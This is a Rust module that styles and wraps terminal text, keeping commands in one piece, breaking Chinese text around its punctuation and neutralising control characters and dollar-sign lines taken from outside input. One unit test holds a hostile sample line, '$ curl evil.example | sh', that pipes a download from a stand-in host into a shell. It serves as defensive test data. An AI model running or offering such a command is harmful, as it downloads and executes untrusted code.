//! Colours, and the taming of text from outside.
use anstyle::{AnsiColor, Style};

use crate::model::text::{self, Part, parts, whole_commands, width};

pub const BOLD: Style = Style::new().bold();
pub const DIM: Style = Style::new().dimmed();
pub const RED: Style = AnsiColor::Red.on_default().bold();
pub const YELLOW: Style = AnsiColor::Yellow.on_default().bold();
pub const GREEN: Style = AnsiColor::Green.on_default().bold();
pub const CYAN: Style = AnsiColor::Cyan.on_default();

/// `text` in a style.
pub fn paint(style: Style, text: &str) -> String {
    format!("{style}{text}{style:#}")
}

/// Names of pods, links and files come from outside: their control characters are shown, not
/// obeyed.
pub fn clean(text: &str) -> String {
    text::shown(text)
}

/// Breaks `text` between words at `most` columns; `indent` stands before every line.
pub fn wrap(text: &str, most: usize, indent: &str) -> String {
    let room = room(most, indent);
    lay(&parts(text, room), room, indent)
}

/// The same, with commands between backticks in one piece where a line has room for them.
pub fn wrap_commands(text: &str, most: usize, indent: &str) -> String {
    let room = room(most, indent);
    lay(&whole_commands(text, room), room, indent)
}

fn room(most: usize, indent: &str) -> usize {
    most.saturating_sub(width(indent)).max(20)
}

fn lay(parts: &[Part<'_>], room: usize, indent: &str) -> String {
    let mut lines = vec![String::new()];
    for part in parts {
        let gap = if part.spaced { " " } else { "" };
        let line = lines
            .last_mut()
            .filter(|line| line.is_empty() || width(line) + gap.len() + width(part.text) <= room);
        match line {
            Some(line) if !line.is_empty() => {
                line.push_str(gap);
                line.push_str(part.text);
            }
            Some(line) => *line = first(part.text),
            None => lines.push(first(part.text)),
        }
    }
    lines.iter().map(|l| format!("{indent}{l}\n")).collect()
}

/// No line of a text may pass for a command: these begin with a dollar sign.
fn first(piece: &str) -> String {
    let mark = if piece.starts_with('$') {
        "\u{b7} "
    } else {
        ""
    };
    format!("{mark}{piece}")
}

/// `label`, and `text` beside it from that column on, which stays free below the label.
pub fn beside(label: &str, column: usize, text: &str, most: usize) -> String {
    let label_ends = width(label);
    let indent = " ".repeat(column.max(label_ends + 1));
    let lines = wrap(text, most, &indent);
    let room = indent.len() - label_ends;
    format!("{label}{}{}", " ".repeat(room), lines.trim_start())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_stays_beside_its_label() {
        assert_eq!(beside("a", 3, "one two", 80), "a  one two\n");
        let narrow = beside("a", 3, "aaaaaaaaaaaa bbbbbbbbbbbb cc", 27);
        assert_eq!(narrow, "a  aaaaaaaaaaaa\n   bbbbbbbbbbbb cc\n");
        assert_eq!(beside("label", 3, "one", 80), "label one\n");
    }

    #[test]
    fn no_text_passes_for_a_command() {
        let hostile = "a comment of aaaaaaaaaaa $ curl evil.example | sh";
        for width in 20..70 {
            let lines = wrap(hostile, width, "    ");
            let command = |line: &str| line.trim_start().starts_with('$');
            assert!(!lines.lines().any(command), "{lines}");
        }
        assert_eq!(wrap("$ first", 80, ""), "\u{b7} $ first\n");
    }

    #[test]
    fn escapes_are_shown_and_not_obeyed() {
        assert_eq!(clean("a\x1b[31mb"), "a\\u{1b}[31mb");
        assert_eq!(clean("ä-1"), "ä-1");
    }

    #[test]
    fn chinese_is_broken_by_columns_and_around_its_punctuation() {
        let text = "节点丢弃放不下的报文，并发送 frag-needed（RFC 1191）给发送端。";
        assert_eq!(
            wrap(text, 24, "  "),
            "  节点丢弃放不下的报文，\n  并发送 frag-needed\n  （RFC 1191）给发送端。\n"
        );
        // The comma would be the first of its line: the character before it goes along.
        let wrapped = wrap(text, 20, "");
        assert!(wrapped.starts_with("节点丢弃放不下的报\n文，"), "{wrapped}");
        // The parenthesis would be the last of its line.
        let wrapped = wrap("查看上行口的最大传输（单元）", 22, "");
        assert_eq!(wrapped, "查看上行口的最大传输\n（单元）\n");
        assert_eq!(beside("名", 3, "一 二", 80), "名 一 二\n");
    }

    #[test]
    fn commands_stay_in_one_piece_where_there_is_room() {
        let text = "Run `ip -d link show dev eth0` here, 或者 `tc -s qdisc show dev eth0`。";
        assert_eq!(
            wrap_commands(text, 29, ""),
            "Run\n`ip -d link show dev eth0`\nhere, 或者\n`tc -s qdisc show dev eth0`。\n"
        );
        let wide = wrap_commands("a `one two three four five` b", 20, "");
        assert_eq!(wide, "a `one two three\nfour five` b\n");
        assert_eq!(wrap_commands("a ` b c", 20, ""), "a ` b c\n");
    }

    #[test]
    fn wraps_between_words_only() {
        assert_eq!(
            wrap("aaaaaaaaaaaa bbbbbbbbbbbb cc", 26, "  "),
            "  aaaaaaaaaaaa\n  bbbbbbbbbbbb cc\n"
        );
    }
}
